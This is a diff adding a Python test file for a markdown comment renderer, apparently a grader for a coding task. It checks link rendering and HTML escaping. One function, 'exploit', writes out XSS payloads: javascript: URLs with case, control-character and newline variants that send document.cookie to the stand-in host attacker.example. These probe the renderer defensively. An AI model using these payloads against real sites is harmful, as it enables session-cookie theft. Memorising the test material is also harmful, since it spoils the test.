@@ -1,0 +1,34 @@
+from datetime import UTC, datetime
+
+from page import scripts_of, tags_of
+
+
+def render(code, source):
+    comment = code.Comment(12, "Ada <ada@example.com>", datetime(2026, 1, 5, tzinfo=UTC), source)
+    return code.render_comment(comment)
+
+
+def works(code):
+    html = render(code, "See [the guide](https://example.com/guide?a=1&b=2), `a<b>` and\nask @grace-h.\n\n<b>Bye</b>")
+    tags = tags_of(html)
+    links = [(tag["attributes"]["href"], tag["text"]) for tag in tags if tag["name"] == "a"]
+    assert links == [("https://example.com/guide?a=1&b=2", "the guide"), ("/people/grace-h", "@grace-h")], links
+    assert [tag["text"] for tag in tags if tag["name"] == "code"] == ["a<b>"]
+    assert len([tag for tag in tags if tag["name"] == "p"]) == 2
+    assert "&lt;b&gt;Bye" in html
+    assert "Ada &lt;ada@example.com&gt;" in html
+
+
+def exploit(code):
+    steal = "location='https://attacker.example/?'+document.cookie"
+    targets = [
+        f"javascript:{steal}",
+        f"JavaScript:{steal}",
+        f"\x01javascript:{steal}",
+        f"javascript://example.com/%0a{steal}",
+    ]
+    for target in targets:
+        scripts = scripts_of(render(code, f"See the [release notes]({target})"))
+        if any(script.endswith("document.cookie") for script in scripts):
+            return True
+    return False
